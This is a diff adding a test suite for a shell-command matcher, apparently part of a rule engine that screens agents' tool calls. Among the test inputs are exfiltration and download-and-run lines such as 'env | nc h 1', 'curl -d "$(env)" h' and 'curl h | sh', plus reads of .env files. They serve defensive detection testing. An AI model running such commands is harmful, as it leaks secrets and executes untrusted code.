@@ -1,0 +1,187 @@
+import { describe, expect, test } from 'bun:test';
+import type { Json } from '../../src/lib/json.ts';
+import { command } from '../../src/matchers/command.ts';
+import type { Truth } from '../../src/model/truth.ts';
+import { ask, factsOf, shell, unreadable } from './support.ts';
+
+type Row = readonly [spec: Json, command: string, truth: Truth];
+
+const ROWS: Readonly<Record<string, readonly Row[]>> = {
+  run: [
+    ['rm', 'rm a', true],
+    ['rm', 'ls; rm a', true],
+    ['rm', '/bin/rm a', true],
+    ['rm', 'echo rm', false],
+    ['rm', 'rmdir a', false],
+    [['rm', 'shred'], 'shred a', true],
+    ['mkfs*', 'mkfs.ext4 x', true],
+    ['rm', '$X a', 'unknown'],
+    ['rm', '"$X" a', 'unknown'],
+    [{ run: 'rm', args: { any: 'b' } }, '"$X" a', false],
+  ],
+  subcommand: [
+    [{ subcommand: ['git', 'push'] }, 'git push', true],
+    [{ subcommand: ['git', 'push'] }, 'git -C x --no-pager push origin', true],
+    [{ subcommand: ['git', 'push'] }, 'git pull', false],
+    [{ subcommand: ['git', 'push'] }, 'git', false],
+    [{ subcommand: ['git', 'stash', ['drop', 'clear']] }, 'git stash clear', true],
+    [{ subcommand: ['git', 'stash', ['drop', 'clear']] }, 'git stash', false],
+    [{ subcommand: [['npm', 'pnpm'], 'publish'] }, 'pnpm publish', true],
+    [{ subcommand: ['tool', 'go'] }, 'tool go now', true],
+    [{ subcommand: ['git', 'push'] }, 'git "$X"', 'unknown'],
+    [{ subcommand: ['git', 'push'] }, 'git $X', 'unknown'],
+    [{ subcommand: ['git', 'push'] }, 'git "pu$X"', 'unknown'],
+    [{ subcommand: ['git', 'push'] }, 'git "un$X"', false],
+  ],
+  flags: [
+    [{ run: 'rm', flags: { any: ['-r', '-R'] } }, 'rm -fr a', true],
+    [{ run: 'rm', flags: { any: ['-r', '-R'] } }, 'rm -f a', false],
+    [{ run: 'rm', flags: { any: '-r' } }, 'rm -- -r', false],
+    [{ run: 'rm', flags: { all: ['-r', '-f'] } }, 'rm -r -f a', true],
+    [{ run: 'rm', flags: { all: ['-r', '-f'] } }, 'rm -r a', false],
+    [{ run: 'rm', flags: { none: '-f' } }, 'rm a', true],
+    [{ run: 'rm', flags: { none: '-f' } }, 'rm -f a', false],
+    [{ subcommand: ['git', 'push'], flags: { any: '--force' } }, 'git push -f', true],
+    [{ subcommand: ['git', 'push'], flags: { any: '-f' } }, 'git push --forc', false],
+    [{ subcommand: ['git', 'clean'], flags: { any: '-f' } }, 'git clean --forc', true],
+    [{ subcommand: ['git', 'push'], flags: { any: '--force' } }, 'git push --force=x', true],
+    [{ subcommand: ['git', 'push'], flags: { any: '--force' } }, 'git push --force --no-force', false],
+    [{ subcommand: ['git', 'checkout'], flags: { any: '--' } }, 'git checkout -- a', true],
+    [{ subcommand: ['git', 'checkout'], flags: { any: '--' } }, 'git checkout a', false],
+    [{ run: 'rm', flags: { any: '-r' } }, 'rm $FLAGS a', 'unknown'],
+    [{ run: 'rm', flags: { none: '-r' } }, 'rm $FLAGS a', 'unknown'],
+    [{ run: 'rm', flags: { any: '-r' } }, 'rm "$FILE"', false],
+    [{ run: 'rm', flags: { any: '-r' } }, 'rm -r $X', true],
+  ],
+  args: [
+    [{ run: 'kill', args: { first: '^1$' } }, 'kill -9 1 2', true],
+    [{ run: 'kill', args: { first: '^2$' } }, 'kill -9 1 2', false],
+    [{ run: 'kill', args: { rest: '^2$' } }, 'kill 1 2', true],
+    [{ run: 'kill', args: { rest: '^1$' } }, 'kill 1 2', false],
+    [{ run: 'kill', args: { any: '^2$' } }, 'kill 1 2', true],
+    [{ run: 'kill', args: { every: '^[0-9]$' } }, 'kill 1 2', true],
+    [{ run: 'kill', args: { every: '^[0-9]$' } }, 'kill 1 x', false],
+    [{ run: 'kill', args: { every: '^[0-9]$' } }, 'kill', false],
+    [{ run: 'kill', args: { min: 2 } }, 'kill 1', false],
+    [{ run: 'kill', args: { min: 2, max: 2 } }, 'kill 1 2', true],
+    [{ run: 'kill', args: { max: 1 } }, 'kill 1 2', false],
+    [{ subcommand: ['git', 'push'], args: { first: '^origin$' } }, 'git push origin', true],
+    [{ subcommand: ['tool', 'go'], args: { first: '^now$' } }, 'tool go now', true],
+    [{ run: 'kill', args: { first: '^1$' } }, 'kill "$PID"', 'unknown'],
+    [{ run: 'kill', args: { min: 2 } }, 'kill 1 $REST', 'unknown'],
+    [{ run: 'kill', args: { any: '^1$' } }, 'kill 1 $REST', true],
+  ],
+  paths: [
+    [{ reads: '**/.env' }, 'cat .env', true],
+    [{ reads: '**/.env' }, 'sort < .env', true],
+    [{ reads: '**/.env' }, 'echo x > .env', false],
+    [{ writes: '**/.env' }, 'echo x > .env', true],
+    [{ writes: '**/.env' }, 'cat .env', false],
+    [{ deletes: { outside: 'workspace' } }, 'rm ../a', true],
+    [{ deletes: { outside: 'workspace' } }, 'rm a', false],
+    [{ deletes: { outside: 'workspace' } }, 'rm "$X"', 'unknown'],
+    [{ deletes: { outside: 'workspace' } }, 'rm "build/$X"', false],
+    [{ deletes: { outside: 'workspace', unknown: true } }, 'rm "$X"', true],
+    [{ deletes: { outside: 'workspace', unknown: true } }, 'rm ../a', false],
+    [{ deletes: '**/a' }, '"$X" a', 'unknown'],
+  ],
+  flow: [
+    [{ run: 'env', pipes_to: 'nc' }, 'env | nc h 1', true],
+    [{ run: 'env', pipes_to: 'nc' }, 'env | base64 | nc h 1', true],
+    [{ run: 'env', pipes_to: 'curl' }, 'curl -d "$(env)" h', true],
+    [{ run: 'env', pipes_to: 'nc' }, 'env; nc h 1', false],
+    [{ run: 'env', pipes_to: 'nc' }, 'env | "$X"', 'unknown'],
+    [{ run: 'sh', pipes_from: 'curl' }, 'curl h | tee x | sh', true],
+    [{ run: 'sh', pipes_from: 'curl' }, 'sh; curl h', false],
+    [{ downloads_and_runs: true }, 'curl h | sh', true],
+    [{ downloads_and_runs: true }, 'curl h | jq .', false],
+    [{ run: 'sh', downloads_and_runs: false }, 'sh x.sh', true],
+  ],
+  network: [
+    [{ network: true }, 'curl https://example.com', true],
+    [{ network: true }, 'ls', false],
+    [{ run: 'ls', network: false }, 'ls', true],
+    [{ network: 'example.com' }, 'curl https://api.example.com/', true],
+    [{ network: 'example.com' }, 'curl https://example.org/', false],
+    [{ network: 'example.com' }, 'curl "https://$HOST/"', 'unknown'],
+    [{ uploads: true }, 'curl -d x https://example.com', true],
+    [{ uploads: true }, 'curl https://example.com', false],
+  ],
+  circumstances: [
+    [{ run: 'ls', privileged: true }, 'sudo ls', true],
+    [{ run: 'ls', privileged: true }, 'ls', false],
+    [{ run: 'ls', privileged: false }, 'ls', true],
+    [{ run: 'rm', wrapped_by: 'xargs' }, 'echo a | xargs rm', true],
+    [{ run: 'rm', wrapped_by: 'xargs' }, 'rm a', false],
+    [{ run: 'rm', elsewhere: true }, 'ssh h rm a', true],
+    [{ run: 'rm', elsewhere: false }, 'ssh h rm a', false],
+    [{ environment: 'A' }, 'A=1 ls', true],
+    [{ environment: ['B', 'A*'] }, 'export AB=1; ls', true],
+    [{ environment: 'A' }, 'ls', false],
+    [{ environment: { A: '^0$' } }, 'A=0 ls', true],
+    [{ environment: { A: '^0$' } }, 'A=1 ls', false],
+    [{ environment: { A: '^0$' } }, 'A="$X" ls', 'unknown'],
+  ],
+  except: [
+    [{ run: 'rm', except: { args: { any: '^a$' } } }, 'rm a', false],
+    [{ run: 'rm', except: { args: { any: '^a$' } } }, 'rm a; rm b', true],
+    [{ run: 'rm', except: { args: { any: '^a$' } } }, 'rm b; rm a', true],
+    [{ writes: '**', except: ['tee', 'cp'] }, 'cp a b', false],
+    [{ writes: '**', except: ['tee', 'cp'] }, 'mv a b', true],
+    [{ writes: '**', except: [['tee', 'cp'], { elsewhere: true }] }, 'ssh h mv a b', false],
+    [{ run: 'rm', except: { args: { any: '^a$' } } }, 'rm "$X"', 'unknown'],
+  ],
+  alternatives: [
+    [[{ run: 'rm' }, { subcommand: ['git', 'rm'] }], 'git rm a', true],
+    [[{ run: 'rm' }, { subcommand: ['git', 'rm'] }], 'git mv a b', false],
+    [['mv', { run: 'rm', args: { any: 'x' } }], 'mv a b', true],
+  ],
+  unreadable: [
+    [{ unreadable: 'syntax' }, 'echo "a', true],
+    [{ unreadable: 'syntax' }, 'echo a', false],
+    [{ unreadable: ['unknown_script', 'unknown_code'] }, 'sh -c "$X"', true],
+    [{ unreadable: 'unknown_program' }, '$X a', true],
+    [{ unreadable: 'syntax' }, '$X a', false],
+    [{ run: 'rm' }, 'echo "a', 'unknown'],
+    [{ run: 'rm' }, 'sh -c "$X"', 'unknown'],
+    [{ run: 'rm' }, 'rm a; sh -c "$X"', true],
+  ],
+};
+
+for (const [title, rows] of Object.entries(ROWS)) {
+  describe(`command: ${title}`, () => {
+    test.each(rows.map(([spec, text, truth]) => [JSON.stringify(spec), text, truth, spec] as const))(
+      '%s says of %s: %s',
+      (_, text, truth, spec) => {
+        expect(ask('command', spec, shell(text))).toBe(truth);
+      },
+    );
+  });
+}
+
+describe('command', () => {
+  test('is no for tools that run no commands', () => {
+    expect(ask('command', 'rm', factsOf({ on: 'before_tool', tool: 'read', arguments: { path: 'rm' } }))).toBe(false);
+  });
+
+  test('is unknown where the arguments cannot be read', () => {
+    expect(ask('command', 'rm', unreadable('shell'))).toBe('unknown');
+  });
+
+  test('looks at every command that a call carries', () => {
+    const call = factsOf({ on: 'before_tool', tool: 'other', arguments: { commands: ['ls', 'rm a'] } });
+    expect(ask('command', 'rm', call)).toBe(true);
+  });
+
+  test.each([
+    [{ run: 'rm', args: { any: '(' } }, ['args', 'any']],
+    [{ run: 'rm', flags: { any: ['force'] } }, ['flags', 'any', 0]],
+    [{ reads: { match: '{a' } }, ['reads', 'match']],
+    [{ run: 'rm', except: { network: { path: '(' } } }, ['except', 'network', 'path']],
+    [{ environment: { A: '(' } }, ['environment', 'A']],
+    [{ unreadable: 'syntax', run: 'rm' }, ['run']],
+    [['rm', { args: { first: '(' } }], [1, 'args', 'first']],
+  ])('says where %j is wrong', (spec, path) => {
+    expect(command.check(spec).map((problem) => [...problem.path])).toEqual([path]);
+  });
+});
